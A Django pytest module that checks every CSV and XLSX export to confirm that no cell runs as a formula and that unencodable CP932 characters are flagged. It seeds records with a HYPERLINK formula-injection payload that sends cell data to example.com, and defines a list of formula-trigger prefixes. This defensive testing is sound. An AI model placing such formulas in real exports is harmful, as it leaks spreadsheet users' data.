"""Every table that can be taken away, walked: no cell runs as a formula, and no character is lost without a word."""

import csv
import dataclasses
import datetime as dt
import io
from collections.abc import Iterator
from urllib.parse import urlencode

import openpyxl
import pytest
from django.http import HttpResponseBase
from django.test import Client
from django.urls import reverse

from lms.common import clock
from lms.common.access import Role
from lms.common.sheets import SUBSTITUTE, XLSX
from lms.organization.models import Person
from tests.architecture.routes import Route, routes
from tests.architecture.samples import SAMPLES, Sample
from tests.architecture.world import World, build_world
from tests.conftest import City, SignIn
from tests.factories.organization import PostingFactory, UnitFactory
from tests.factories.talent import leader_of

pytestmark = [pytest.mark.django_db, pytest.mark.slow]
FORMULA = '=HYPERLINK("https://example.com/?"&A1,"開く")'
# CP932 has no such character.
RARE = "𠮷野"
STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMATS = ("csv", "csv-cp932", "xlsx")
# The parameter by which an address says which file is wanted.
FORMAT_NAMES = {"file_format", "extension"}


@dataclasses.dataclass(frozen=True)
class Download:
    name: str
    address: str
    file_format: str


@pytest.fixture
def world(city: City, now: dt.datetime) -> World:
    """With a leader and a section that are called like a formula, and one with a rare character."""
    for name in (FORMULA, RARE):
        unit = UnitFactory(parent=city.division, name=name, kana=name)
        leader: Person = leader_of(unit, name=name, kana=name).person
        PostingFactory(person=leader, unit=city.section, concurrent=True, title=f"{name[:20]}")
    return build_world(city, now)


def downloads(world: World) -> Iterator[Download]:
    """The addresses that name a format, in each format; and all others that need no form, as they are."""
    for route in (route for route in routes() if route.is_ours and _may_be_file(route)):
        kwargs = SAMPLES.get(route.name, Sample(lambda world: {})).kwargs(world)
        named = FORMAT_NAMES & set(kwargs)
        query = urlencode({"as_of": clock.today().isoformat()})
        for file_format in FORMATS if named else ("",):
            chosen = {**kwargs, **dict.fromkeys(named, file_format)}
            yield Download(route.name, f"{reverse(route.name, kwargs=chosen)}?{query}", file_format)


def _may_be_file(route: Route) -> bool:
    if not isinstance(route.view.allowed, frozenset) or (route.parameters and route.name not in SAMPLES):
        return False
    words = ("export", "csv", "xlsx", "template", "errors", "download", "file_format")
    return any(word in route.route for word in words)


def cells(response: HttpResponseBase) -> list[str] | None:
    """The cells of a table as a spreadsheet would take them, a formula as FORMULA itself; None: no table."""
    kind = response.get("Content-Type", "")
    if response.status_code != 200 or "attachment" not in response.get("Content-Disposition", ""):
        return None
    content = b"".join(response) if response.streaming else response.content  # type: ignore[attr-defined]
    if kind.startswith("text/csv"):
        text = content.decode("cp932" if "cp932" in kind or "shift" in kind.lower() else "utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    if kind.startswith(XLSX):
        book = openpyxl.load_workbook(io.BytesIO(content))
        found = [cell for page in book.worksheets for row in page.iter_rows() for cell in row if cell.value is not None]
        # What is typed as text stays text, however it begins.
        return [str(cell.value) if cell.data_type == "f" else f"'{cell.value}" for cell in found]
    return None


@pytest.fixture
def clerk(world: World, sign_in: SignIn) -> dict[Role, Client]:
    return {role: sign_in(world.city.personas[role]) for role in (Role.HR, Role.ADMIN, Role.TRAINER)}


def takers(route_name: str, clerk: dict[Role, Client]) -> Client:
    """Somebody whom the view lets in."""
    allowed = next(route.view.allowed for route in routes() if route.name == route_name)
    return next(client for role, client in clerk.items() if role in allowed)


# Files that must hold the names, or the walk finds nothing.
WITH_NAMES = {"board_export", "goal_people_export", "organization_export", "hr_import_template", "audience_export"}


def test_no_cell_of_any_file_runs_as_a_formula(world: World, clerk: dict[Role, Client]) -> None:
    dangerous, with_names = [], set()
    for download in downloads(world):
        address = f"{download.address}&anyway=1"
        found = cells(takers(download.name, clerk).get(address))
        for cell in found or []:
            if cell.startswith(STARTS):
                dangerous.append(f"{address}: {cell}")
            if "HYPERLINK" in cell:
                with_names.add(download.name)
    assert not dangerous, "\n".join(dangerous)
    assert with_names >= WITH_NAMES


def test_what_cp932_cannot_hold_is_named_before_the_file_is_taken(world: World, clerk: dict[Role, Client]) -> None:
    silent, warned = [], set()
    for download in downloads(world):
        if download.file_format != "csv-cp932":
            continue
        client = takers(download.name, clerk)
        replaced = cells(client.get(f"{download.address}&anyway=1")) or []
        if not any(SUBSTITUTE in cell for cell in replaced):
            continue
        response = client.get(download.address)
        page = b"" if "attachment" in response.get("Content-Disposition", "") else response.content
        if RARE[0] in page.decode() and SUBSTITUTE in page.decode():
            warned.add(download.name)
        else:
            silent.append(download.address)
    assert not silent, "\n".join(silent)
    assert warned >= {"board_export", "goal_people_export"}
